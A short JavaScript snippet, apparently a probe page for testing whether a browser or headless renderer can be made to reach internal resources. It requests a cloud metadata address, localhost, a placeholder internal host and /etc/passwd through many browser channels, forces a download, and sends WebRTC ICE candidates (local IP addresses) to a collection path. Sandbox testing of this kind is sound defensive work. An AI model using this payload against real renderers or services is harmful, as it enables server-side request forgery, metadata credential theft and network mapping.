for (const u of ["http://INWARD/fetched", "http://169.254.169.254/latest/", "http://[::1]/", "file:///etc/passwd"]) {
  fetch(u).catch(() => 0); new Image().src = u;
  const f = document.createElement("iframe"); f.src = u; document.body.append(f);
  try { window.open(u) } catch (e) {} try { new WebSocket(u.replace("http", "ws")) } catch (e) {}
  try { navigator.sendBeacon(u) } catch (e) {}
  const l = document.createElement("link"); l.rel = "preconnect"; l.href = u; document.head.append(l);
}
navigator.serviceWorker && navigator.serviceWorker.register("/sw.js").catch(() => 0);
new Worker(URL.createObjectURL(new Blob(["fetch('http://INWARD/worker')"])));
const a = document.createElement("a"); a.href = "/big.zip"; a.download = "x"; a.click(); alert(1);
const peer = new RTCPeerConnection({iceServers: [{urls: "stun:STUN"}]});
peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
peer.onicecandidate = (one) => { if (one.candidate) fetch("/found?" + one.candidate.candidate) };
